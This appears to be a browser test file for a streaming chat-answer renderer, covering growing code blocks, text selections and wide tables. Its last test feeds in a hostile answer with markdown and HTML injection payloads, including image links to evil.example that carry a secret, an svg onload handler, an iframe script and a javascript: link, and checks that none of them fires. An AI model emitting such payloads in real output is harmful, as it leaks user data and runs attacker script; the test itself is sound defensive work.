import "../../src/styles.css";
import { cleanup } from "@testing-library/react";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { userEvent } from "vitest/browser";
import { loadMarkdown } from "../../src/components/index.js";
import { highlight } from "../../src/highlight.js";
import { delta, stop, text, textDone } from "../reducer/events.js";
import { frames, showInPage, type PageChat } from "./page.js";

beforeAll(loadMarkdown);
afterEach(() => {
  getSelection()?.removeAllRanges();
  cleanup();
});

const answer = ({ thread }: PageChat): HTMLElement => {
  const found = thread.querySelector<HTMLElement>("article[data-last] .unistream-text");
  if (!found) throw new Error("There is no answer.");
  return found;
};

/** A chat that has begun to answer. */
async function begun(said: string, props: Parameters<typeof showInPage>[1] = {}): Promise<PageChat> {
  const chat = showInPage({}, props);
  chat.conversation.send("Hi");
  await chat.request().push(delta(text(said)));
  await frames(2);
  return chat;
}

const line = (n: number): string =>
  `const reading${String(n)} = { metres: ${String(n)} }; // ${"long ".repeat(20)}\n`;

describe("a block of code that grows (B06)", () => {
  it("stays the same element, keeps its sideways scroll and hover, and copies what there is", async () => {
    const chat = await begun("```ts\n", { addons: [highlight()] });
    let said = "```ts\n";
    const say = async (piece: string): Promise<void> => {
      said += piece;
      await chat.request().push(delta(text(piece)));
      await frames();
    };
    for (let n = 0; n < 100; n += 1) await say(line(n));
    const pre = answer(chat).querySelector("pre")!;
    const copy = answer(chat).querySelector<HTMLElement>("[aria-label=Copy]")!;
    await expect.poll(() => pre.querySelectorAll("[data-kind]").length).toBeGreaterThan(100);
    const coloured = pre.querySelector("[data-kind]")!;
    pre.scrollLeft = 200;
    await userEvent.hover(copy);
    const colouredRows = (): number => pre.querySelectorAll(".unistream-code-row:has([data-kind])").length;
    let most = 0;
    for (let n = 100; n < 300; n += 1) {
      await say(line(n));
      expect(colouredRows()).toBeGreaterThanOrEqual(most);
      most = colouredRows();
    }
    await say("```\n\nAfter.");
    await chat.request().push(delta(textDone(said)), stop());
    await frames(2);
    expect(answer(chat).querySelector("pre")).toBe(pre);
    expect(pre.querySelector("[data-kind]")).toBe(coloured);
    expect(pre.scrollLeft).toBe(200);
    expect(copy.isConnected && copy.matches(":hover")).toBe(true);
    await expect.poll(colouredRows).toBe(300);
    expect(pre.textContent).toBe(Array.from({ length: 300 }, (_, n) => line(n)).join(""));
  });

  it("follows its last line until the reader scrolls up in it", async () => {
    const chat = await begun("```\n");
    const pre = (): HTMLElement => answer(chat).querySelector("pre")!;
    const below = (): number => pre().scrollHeight - pre().scrollTop - pre().clientHeight;
    const grow = async (): Promise<void> => {
      await chat.request().push(delta(text("line\n".repeat(20))));
      await frames(2);
    };
    for (let count = 0; count < 5; count += 1) await grow();
    expect(pre().scrollTop).toBeGreaterThan(0);
    expect(below()).toBeLessThanOrEqual(4);
    pre().scrollTop -= 100;
    await frames(2);
    const top = pre().scrollTop;
    await grow();
    expect(pre().scrollTop).toBe(top);
    pre().scrollTop = pre().scrollHeight;
    await frames(2);
    await grow();
    expect(below()).toBeLessThanOrEqual(4);
  });

  it("keeps a selection when its lines get their colours, and copies as the source reads", async () => {
    const chat = await begun("```ts\nconst a = 1;\nconst b = 2;", { addons: [highlight()] });
    const rows = (): Element[] => [...answer(chat).querySelectorAll(".unistream-code-row")];
    const from = document.createTreeWalker(rows()[0]!, NodeFilter.SHOW_TEXT).nextNode()!;
    const to = document.createTreeWalker(rows()[1]!, NodeFilter.SHOW_TEXT).nextNode()!;
    getSelection()!.setBaseAndExtent(from, 2, to, 5);
    const selected = getSelection()!.toString();
    expect(selected.endsWith("\nconst")).toBe(true);
    await chat.request().push(delta(text("\n```\n\nAfter.")));
    await expect.poll(() => answer(chat).querySelectorAll("[data-kind=keyword]").length).toBe(2);
    expect(getSelection()!.toString()).toBe(selected);
  });
});

describe("a selection (B07)", () => {
  it("is kept in the same text node until after the stop, whatever comes", async () => {
    const first = "The first paragraph has **some words** in it.";
    const chat = await begun(`${first}\n\nSecond`);
    const node = answer(chat).querySelector("strong")!.firstChild!;
    getSelection()!.setBaseAndExtent(node, 0, node, 10);
    let said = `${first}\n\nSecond`;
    for (let count = 0; count < 100; count += 1) {
      const piece = count === 50 ? "\n\n```ts\nlet x;\n```\n\n" : count % 10 === 9 ? "\n\n- item" : " more";
      said += piece;
      await chat.request().push(delta(text(piece)));
      await frames();
      expect(getSelection()!.anchorNode).toBe(node);
    }
    await chat.request().push(delta(textDone(said)));
    await chat.request().push(stop());
    await frames(3);
    expect(getSelection()!.toString()).toBe("some words");
    expect(getSelection()!.anchorNode).toBe(node);
  });
});

describe("a table that is wider than the text", () => {
  it("scrolls by itself and keeps its place while it grows", async () => {
    const cells = Array.from({ length: 12 }, (_, n) => `a wide cell ${String(n)}`).join(" | ");
    const chat = await begun(`| ${cells} |\n|${" --- |".repeat(12)}\n`);
    const box = answer(chat).querySelector<HTMLElement>(".unistream-table-box")!;
    expect(box.scrollWidth).toBeGreaterThan(box.clientWidth);
    expect(chat.thread.scrollWidth).toBe(chat.thread.clientWidth);
    box.scrollLeft = 150;
    for (let count = 0; count < 20; count += 1) {
      await chat.request().push(delta(text(`| ${cells} |\n`)));
      await frames();
    }
    expect(answer(chat).querySelector(".unistream-table-box")).toBe(box);
    expect(box.scrollLeft).toBe(150);
    expect(box.querySelectorAll("tbody tr")).toHaveLength(20);
  });
});

describe("a hostile answer (B13, B14)", () => {
  it("makes no request and runs no script, at any prefix", async () => {
    const hostile =
      "![x](https://evil.example/p?q=SECRET) ![y][ref] ![z](//evil.example/z.png) <img src=https://evil.example/i.png " +
      'srcset="https://evil.example/s.png 2x"> <link rel=preload href=https://evil.example/l> <style>@import url(https://' +
      'evil.example/c.css)</style>\n\n<svg onload="window.pwned=1"><image href=https://evil.example/v.png></svg>\n\n' +
      "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe> [a](javascript:window.pwned=1)\n\n" +
      '[ref]: https://evil.example/r.png\n\n```mermaid\nclick a href "https://evil.example"\n```\n';
    const asked: string[] = [];
    const watch = new PerformanceObserver((list) => {
      asked.push(...list.getEntries().map(({ name }) => name));
    });
    watch.observe({ type: "resource", buffered: true });
    const chat = await begun("");
    for (const character of hostile) {
      await chat.request().push(delta(text(character)));
      if (character === " " || character === "\n") await frames();
    }
    await chat.request().push(delta(textDone(hostile)), stop());
    await frames(3);
    watch.disconnect();
    expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
    expect(answer(chat).querySelectorAll("img, iframe, link, style, script, image")).toHaveLength(0);
    expect(window).not.toHaveProperty("pwned");
    expect(answer(chat).textContent).toContain("Image from evil.example");
  });
});
